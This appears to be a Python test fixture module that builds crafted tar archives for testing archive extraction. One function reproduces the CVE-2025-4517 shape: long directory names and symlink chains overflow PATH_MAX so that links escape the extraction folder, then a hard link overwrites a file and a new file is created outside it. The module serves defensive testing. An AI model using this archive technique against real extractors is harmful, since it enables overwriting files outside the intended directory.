"""Crafted archives for the archive and loader tests, built with tarfile (nothing downloaded)."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path


def add_tar(tf: tarfile.TarFile, name: str, kind: bytes = tarfile.REGTYPE, *, linkname: str = "",
            data: bytes = b"", mtime: float = 0) -> None:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size, info.mtime = kind, linkname, len(data), mtime
    info.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
    tf.addfile(info, io.BytesIO(data) if data else None)


def realpath_overflow_tar(path: Path, dest: Path) -> Path:
    """CVE-2025-4517's shape: folders with names long enough that the path through a chain of
    symlinks to them passes PATH_MAX, so a non-strict realpath stops resolving and tarfile's `data`
    filter (unpatched Pythons) lets a final link climb to dest's parent, then a hard link and a file
    written through it overwrite `dest.parent/flag` and create `dest.parent/newfile`."""
    steps = "abcdefghijklmnop"
    path_max = os.pathconf(dest.parent, "PC_PATH_MAX")
    component = "d" * ((path_max - len(str(dest)) - 1) // (len(steps) + 1))
    with tarfile.open(path, "w") as tf:
        prefix = ""
        for step in steps:
            add_tar(tf, os.path.join(prefix, component), tarfile.DIRTYPE)
            add_tar(tf, os.path.join(prefix, step), tarfile.SYMTYPE, linkname=component)
            prefix = os.path.join(prefix, component)
        link = os.path.join(*steps, "l" * 254)
        add_tar(tf, link, tarfile.SYMTYPE, linkname=os.path.join(*[".."] * len(steps)))
        add_tar(tf, "escape", tarfile.SYMTYPE, linkname=os.path.join(link, ".."))
        add_tar(tf, "flaglink", tarfile.LNKTYPE, linkname="escape/flag")
        add_tar(tf, "flaglink", data=b"overwritten")
        add_tar(tf, "escape/newfile", data=b"new")
    return path


def tree(root: Path, skip: Path) -> dict[str, bytes | None]:
    """Every path under root except `skip`'s subtree, with file contents (None for folders)."""
    found: dict[str, bytes | None] = {}
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if Path(folder, d) != skip]
        for name in dirs:
            found[os.path.join(folder, name)] = None
        for name in files:
            path = Path(folder, name)
            found[str(path)] = path.read_bytes() if not path.is_symlink() else b"->" + os.readlink(path).encode()
    return found
